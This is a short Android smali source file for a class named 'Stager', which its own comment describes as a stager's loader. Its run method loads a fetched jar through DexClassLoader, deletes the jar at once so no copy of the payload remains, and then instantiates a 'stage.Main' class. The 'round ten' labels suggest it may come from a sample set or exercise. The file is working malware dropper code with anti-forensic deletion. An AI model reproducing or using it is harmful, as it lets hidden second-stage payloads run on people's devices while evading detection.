.class public Lcom/appwarden/screen/r10/Stager;
.super Ljava/lang/Object;

# r10 (round ten): a stager's loader. One method builds a DexClassLoader over the jar it fetched and deletes the jar
# at once, so no copy of the payload stays on the device (dropper.load_and_delete, scope method).

.method public constructor <init>()V
    .registers 1
    invoke-direct {p0}, Ljava/lang/Object;-><init>()V
    return-void
.end method

.method public static run(Ljava/lang/String;Ljava/lang/String;Ljava/lang/ClassLoader;)Ljava/lang/Object;
    .registers 7
    new-instance v0, Ljava/io/File;
    invoke-direct {v0, p0}, Ljava/io/File;-><init>(Ljava/lang/String;)V
    new-instance v1, Ldalvik/system/DexClassLoader;
    const/4 v2, 0x0
    invoke-direct {v1, p0, p1, v2, p2}, Ldalvik/system/DexClassLoader;-><init>(Ljava/lang/String;Ljava/lang/String;Ljava/lang/String;Ljava/lang/ClassLoader;)V
    invoke-virtual {v0}, Ljava/io/File;->delete()Z
    const-string v3, "stage.Main"
    invoke-virtual {v1, v3}, Ljava/lang/ClassLoader;->loadClass(Ljava/lang/String;)Ljava/lang/Class;
    move-result-object v3
    invoke-virtual {v3}, Ljava/lang/Class;->newInstance()Ljava/lang/Object;
    move-result-object v3
    return-object v3
.end method
